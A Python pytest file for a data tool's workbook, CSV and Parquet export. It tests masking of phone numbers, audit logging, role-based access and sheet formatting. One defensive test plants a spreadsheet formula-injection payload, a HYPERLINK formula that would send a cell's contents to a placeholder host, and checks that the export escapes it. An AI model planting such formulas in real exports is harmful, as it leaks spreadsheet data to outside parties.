"""`reef export` and GET /api/v1/export: an operator-ready workbook (Chinese sheets and headers, real dates, ids as
text, names beside member ids), CSV / Parquet for data work, masked personal data unless unmasked by an admin."""
from __future__ import annotations

import csv
import io
import re
import zipfile
from datetime import datetime

import pytest

from surface_fixtures import PASSWORD

openpyxl = pytest.importorskip("openpyxl")


def _store(db_path):
    from reef.store import open_store
    return open_store(db_path)


def _rows(book, sheet):
    ws = book[sheet]
    values = list(ws.iter_rows(values_only=True))
    return [dict(zip(values[0], r)) for r in values[1:]]


def test_workbook_has_chinese_sheets_and_masks_contact(db_path, tmp_path):
    from reef.export import export_tables

    out = tmp_path / "data.xlsx"
    result = export_tables(_store(db_path), out)
    assert result["masked"] is True
    book = openpyxl.load_workbook(out, read_only=True)
    assert {"成员", "成员概况", "每日活跃", "运营行动", "导入记录", "隔离数据"} <= set(book.sheetnames)
    evil = next(r for r in _rows(book, "成员") if r["成员ID"] == "evil")
    assert evil["联系方式"] == "139****5678" and evil["昵称"].endswith("车主")
    assert len(_rows(book, "成员")) == 121


def test_unmasked_export_keeps_contact_and_is_audited(db_path, tmp_path):
    from reef.actions import audit_entries
    from reef.export import export_tables

    store = _store(db_path)
    export_tables(store, tmp_path / "raw.xlsx", unmask=True, by="admin", role="admin")
    book = openpyxl.load_workbook(tmp_path / "raw.xlsx", read_only=True)
    assert next(r for r in _rows(book, "成员") if r["成员ID"] == "evil")["联系方式"] == "13912345678"
    entry = audit_entries(store, action="export")["items"][0]
    assert entry["username"] == "admin" and '"unmask": true' in entry["details"]


def test_csv_is_utf8_with_bom_and_parquet_reads_back(db_path, tmp_path):
    import pyarrow.parquet as pq
    from reef.export import export_tables

    store = _store(db_path)
    export_tables(store, tmp_path / "csv", raw_headers=True)
    raw = (tmp_path / "csv" / "members.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"))))
    assert next(r for r in rows if r["member_id"] == "evil")["contact"] == "139****5678"
    export_tables(store, tmp_path / "pq", fmt="parquet")
    table = pq.read_table(tmp_path / "pq" / "members.parquet")
    assert "13912345678" not in table.column("contact").to_pylist()


def test_code_columns_read_as_names_in_the_workbook_with_a_chinese_twin_in_csv_but_not_in_parquet(db_path, tmp_path):
    import pyarrow.parquet as pq
    from reef.export import export_tables

    store = _store(db_path)
    export_tables(store, tmp_path / "data.xlsx")
    book = openpyxl.load_workbook(tmp_path / "data.xlsx", read_only=True)
    roles = {r["角色"] for r in _rows(book, "关键节点")}
    assert roles and roles <= {"连接者", "广播者", "成员"}
    assert "成员" in {r["账号类型"] for r in _rows(book, "成员")}
    export_tables(store, tmp_path / "en.xlsx", lang="en")
    book = openpyxl.load_workbook(tmp_path / "en.xlsx", read_only=True)
    assert {r["Role"] for r in _rows(book, "Key connectors")} <= {"connector", "broadcaster", "member"}
    export_tables(store, tmp_path / "csv", raw_headers=True)
    rows = list(csv.DictReader(io.StringIO((tmp_path / "csv" / "operator_actions.csv").read_text(encoding="utf-8-sig"))))
    assert rows and all(r["status_zh"] in {"待办", "已完成", "已取消"} for r in rows)
    export_tables(store, tmp_path / "pq", fmt="parquet")
    assert "role_zh" not in pq.read_table(tmp_path / "pq" / "network_connectors.parquet").column_names


_RAW_KEY = re.compile(r"^[a-z][a-z0-9_]*$")


def test_the_workbook_is_operator_ready(db_path, tmp_path):
    """QA: headers were field names, dates text, hashes floats, lists Python reprs, floats unrounded; no frozen header
    row or filter."""
    from zoneinfo import ZoneInfo

    from reef.export import export_tables

    store = _store(db_path)
    export_tables(store, tmp_path / "data.xlsx")
    book = openpyxl.load_workbook(tmp_path / "data.xlsx")
    for ws in book.worksheets:
        head = [c.value for c in ws[1]]
        assert not [h for h in head if _RAW_KEY.match(str(h))], (ws.title, head)
        assert ws.freeze_panes == "A2" and ws.auto_filter.ref, ws.title
    members = book["成员"]
    head = [c.value for c in members[1]]
    assert not {"行指纹", "入库时间", "导入批次"} & set(head)  # bookkeeping columns are for data work
    joined = head.index("加入时间（Asia/Shanghai）")
    evil = next(r for r in members.iter_rows(min_row=2) if r[0].value == "evil")
    assert evil[joined].is_date and evil[joined].value == datetime(2026, 6, 1, 10, 0)  # naive, in the store's zone
    assert evil[0].data_type == "s"
    daily = book["每日活跃"]
    first_day = daily.cell(2, 1)
    assert first_day.is_date and first_day.number_format == "yyyy-mm-dd"
    stored = store.fetch_value("SELECT min(day) FROM activity_daily")
    assert first_day.value.date() == stored
    imports = book["导入记录"]
    assert imports.cell(2, 1).value == "1"  # ids are text, not numbers to add up
    connectors = _rows(openpyxl.load_workbook(tmp_path / "data.xlsx", read_only=True), "关键节点")
    examples = [r["示例"] for r in connectors if r["示例"]]
    assert examples and all("[" not in e and "'" not in e for e in examples)
    assert any("、" in e for e in examples)
    floats = [v for r in connectors for v in r.values() if isinstance(v, float)]
    assert floats and all(len(f"{v:.10g}".lstrip("-0.").replace(".", "")) <= 4 for v in floats)
    last = store.fetch_value("SELECT max(t) FROM (SELECT max(joined_at) AS t FROM members UNION ALL "
                             "SELECT max(created_at) FROM content UNION ALL SELECT max(created_at) FROM interactions)")
    from reef.export import export_file_name

    assert export_file_name(store) == f"reef-export-{last.astimezone(ZoneInfo('Asia/Shanghai')).date()}.xlsx"


def test_sixty_four_bit_hashes_stay_exact_as_text():
    from reef.export.workbook import Column, cell_value, workbook_columns

    columns = workbook_columns("scores", [("member_id", "VARCHAR"), ("row_hash", "UBIGINT"), ("h", "UBIGINT"),
                                          ("n", "HUGEINT"), ("tags", "VARCHAR[]")], (), "zh", "Asia/Shanghai")
    assert [c.name for c in columns] == ["member_id", "h", "n", "tags"]  # row_hash is bookkeeping
    assert cell_value(12935210449266190000, columns[1], "zh", None) == "12935210449266190000"
    assert cell_value(45, columns[2], "zh", None) == 45
    assert cell_value(["m1", "m2"], columns[3], "zh", None) == "m1、m2"
    assert cell_value(["m1", "m2"], columns[3], "en", None) == "m1, m2"
    assert cell_value(0.01408886689462063, Column("x", "x", "number"), "zh", None) == 0.01409


def test_english_workbook_speaks_english(db_path, tmp_path):
    from reef.export import export_tables

    result = export_tables(_store(db_path), tmp_path / "en.xlsx", lang="en")
    assert result["lang"] == "en"
    book = openpyxl.load_workbook(tmp_path / "en.xlsx", read_only=True)
    assert {"Members", "Daily activity", "Care list", "Risk alerts"} <= set(book.sheetnames)
    for ws in book.worksheets:
        head = next(ws.iter_rows(values_only=True))
        assert not [h for h in head if "_" in str(h) or re.search(r"[\u4e00-\u9fff]", str(h))], (ws.title, head)
    evil = next(r for r in _rows(book, "Members") if r["Member ID"] == "evil")
    assert evil["Contact"] == "139****5678" and isinstance(evil["Joined (Asia/Shanghai)"], datetime)


def _care_for(db_path, name: str) -> None:
    """Give the hostile member a phone number in the name and a row on the care list."""
    store = _store(db_path)
    store.execute("UPDATE members SET name = ? WHERE member_id = 'evil'", [name])
    store.execute("""INSERT INTO risk_evidence (family, part, subject, member_id, value, rank, detail_zh, detail_en, as_of)
                     VALUES ('backlash', 'care', 'evil', 'evil', 0.99, 0, '测试关怀', 'test care', now())""")
    store.checkpoint()
    from reef.store import close_all

    close_all()


def test_care_list_has_the_members_name_masked_like_every_name(db_path, tmp_path):
    from reef.export import export_tables

    _care_for(db_path, "车主13812345678")
    store = _store(db_path)
    export_tables(store, tmp_path / "data.xlsx")
    book = openpyxl.load_workbook(tmp_path / "data.xlsx", read_only=True)
    care = _rows(book, "关怀名单")
    head = list(care[0])
    assert head.index("昵称") == head.index("成员ID") + 1
    evil = next(r for r in care if r["成员ID"] == "evil")
    assert evil["昵称"] == "车主138****5678"
    export_tables(store, tmp_path / "raw.xlsx", unmask=True)
    raw = next(r for r in _rows(openpyxl.load_workbook(tmp_path / "raw.xlsx", read_only=True), "关怀名单") if r["成员ID"] == "evil")
    assert raw["昵称"] == "车主13812345678"
    export_tables(store, tmp_path / "pq", fmt="parquet")
    import pyarrow.parquet as pq

    names = pq.read_table(tmp_path / "pq" / "care_list.parquet").column("name").to_pylist()
    assert "车主138****5678" in names and "车主13812345678" not in names


def test_cli_export_writes_the_workbook(db_path, tmp_path):
    from typer.testing import CliRunner
    from reef.cli import app

    r = CliRunner().invoke(app, ["export", "--out", str(tmp_path / "d.xlsx"), "--db", str(db_path), "--json"])
    assert r.exit_code == 0, r.output
    assert '"masked": true' in r.output and (tmp_path / "d.xlsx").exists()


def test_cli_export_in_a_fresh_process_has_every_capability_sheet(db_path, tmp_path):
    # In-process tests have imported every capability already; a fresh `reef export` had only the six base sheets.
    import json
    import shutil
    import subprocess
    import sys
    from pathlib import Path

    script = Path(sys.executable).with_name("reef")
    exe = str(script) if script.exists() else shutil.which("reef")
    if exe is None:
        pytest.skip("the reef script is not installed")
    done = subprocess.run([exe, "export", "--out", str(tmp_path / "d.xlsx"), "--db", str(db_path), "--json"],
                          capture_output=True, text=True, timeout=300)
    assert done.returncode == 0, done.stderr
    sheets = {s["sheet"] for s in json.loads(done.stdout)["sheets"]}
    assert {"成员", "阶梯", "风险", "关键节点", "知识缺口"} <= sheets


def test_csv_cells_that_look_like_formulas_stay_text(db_path, tmp_path):
    from reef.export import export_tables

    store = _store(db_path)
    formula = '=HYPERLINK("http://x.example/?"&A1,"点我")'
    store.execute("UPDATE members SET name = ? WHERE member_id = 'evil'", [formula])
    export_tables(store, tmp_path / "csv", unmask=True, raw_headers=True)
    rows = list(csv.DictReader(io.StringIO((tmp_path / "csv" / "members.csv").read_text(encoding="utf-8-sig"))))
    assert next(r for r in rows if r["member_id"] == "evil")["name"] == "'" + formula


def test_http_export_masks_for_operators_and_refuses_unmask(client):
    client.post("/api/v1/login", json={"username": "operator", "password": PASSWORD})
    assert client.get("/api/v1/export?unmask=true").status_code == 403
    r = client.get("/api/v1/export?format=zip")
    assert r.status_code == 200
    text = zipfile.ZipFile(io.BytesIO(r.content)).read("members.csv").decode("utf-8-sig")
    assert "139****5678" in text and "13912345678" not in text


def _http_workbook(client, role: str, query: str = "") -> tuple[object, str]:
    from surface_fixtures import login

    login(client, role)
    r = client.get("/api/v1/export" + query)
    assert r.status_code == 200, r.text
    return openpyxl.load_workbook(io.BytesIO(r.content), read_only=True), r.headers["content-disposition"]


def test_http_workbook_is_dated_and_masked_for_operators_unmasked_only_for_admins(db_path):
    """Masking stays as strict as it was: viewers get no export, operators a masked one, only admins may unmask."""
    from fastapi.testclient import TestClient

    from reef.server import create_app

    _care_for(db_path, "车主13812345678")
    app = create_app(db_path)
    try:
        with TestClient(app) as client:
            from surface_fixtures import login

            login(client, "viewer")
            assert client.get("/api/v1/export").status_code == 403
            book, disposition = _http_workbook(client, "operator")
            assert re.search(r'reef-export-\d{4}-\d{2}-\d{2}\.xlsx', disposition)
            evil = next(r for r in _rows(book, "关怀名单") if r["成员ID"] == "evil")
            assert evil["昵称"] == "车主138****5678"
            assert next(r for r in _rows(book, "成员") if r["成员ID"] == "evil")["联系方式"] == "139****5678"
            assert client.get("/api/v1/export?unmask=true").status_code == 403
            book, _ = _http_workbook(client, "operator", "?lang=en")
            assert "Care list" in book.sheetnames
            book, _ = _http_workbook(client, "admin", "?unmask=true")
            assert next(r for r in _rows(book, "关怀名单") if r["成员ID"] == "evil")["昵称"] == "车主13812345678"
    finally:
        app.state.jobs.shutdown()
